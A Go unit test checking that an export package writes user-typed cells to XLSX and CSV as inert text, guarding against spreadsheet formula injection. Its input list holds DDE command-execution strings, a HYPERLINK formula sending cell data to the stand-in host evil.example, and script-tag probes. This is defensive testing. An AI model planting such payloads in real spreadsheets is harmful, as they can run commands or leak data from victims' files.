// SPDX-License-Identifier: Apache-2.0

package exchange_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"yuexin/shared/exchange"
)

// TestNothingTypedActsInATable: whatever somebody typed is a text in a workbook, never a formula, and begins in a CSV file with nothing that a
// spreadsheet program runs (OWASP, "CSV Injection"), unseen characters before it or not; in both it is still there.
func TestNothingTypedActsInATable(t *testing.T) {
	starts := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"}
	before := []string{"", " ", "　", "\u00a0", "\ufeff", "\u200b", "\t", "\r", "\n", "\r\n ", "\u202e"}
	tails := []string{`1+1`, `cmd|'/c calc'!A0`, `HYPERLINK("http://evil.example?"&A1,"x")`, `DDE("cmd";"/c calc";"x")`, `<script>alert(1)</script>`}
	var cells []string
	for _, start := range starts {
		for _, unseen := range before {
			for _, tail := range tails {
				cells = append(cells, unseen+start+tail)
			}
		}
	}
	cells = append(cells, "\t1", "\r\n1", `"><script>alert(1)</script>`, "]]><f>1+1</f>", "&lt;f&gt;", "_x003D_1+1")
	rows := make([][]string, len(cells))
	for i, c := range cells {
		rows[i] = []string{"陈秀英", c}
	}
	book, err := excelize.OpenReader(bytes.NewReader(out(t, exchange.XLSX, rows...)))
	if err != nil {
		t.Fatal(err)
	}
	sheet := book.GetSheetList()[0]
	for i, c := range cells {
		at, _ := excelize.CoordinatesToCellName(2, i+1)
		formula, err := book.GetCellFormula(sheet, at)
		kind, err2 := book.GetCellType(sheet, at)
		if err != nil || err2 != nil || formula != "" || kind != excelize.CellTypeInlineString {
			t.Errorf("%q: formula %q, type %v, %v %v", c, formula, kind, err, err2)
		}
	}
	text := strings.TrimPrefix(string(out(t, exchange.CSV, rows...)), "\uFEFF")
	got, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(got) != len(cells) {
		t.Fatalf("%d of %d rows, %v", len(got), len(cells), err)
	}
	for i, row := range got {
		typed := strings.ReplaceAll(cells[i], "\r\n", "\n") // what a reader of CSV makes of it
		if strings.TrimPrefix(row[1], "'") != typed {
			t.Errorf("%q became %q", typed, row[1])
		}
		if first := strings.TrimLeft(row[1], " \u00a0\ufeff\u200b\u202e\t\r\n　"); first != "" && strings.ContainsAny(first[:1], "=+-@") || strings.ContainsAny(row[1][:1], "\t\r\n") {
			t.Errorf("%q begins a formula", row[1])
		}
	}
}
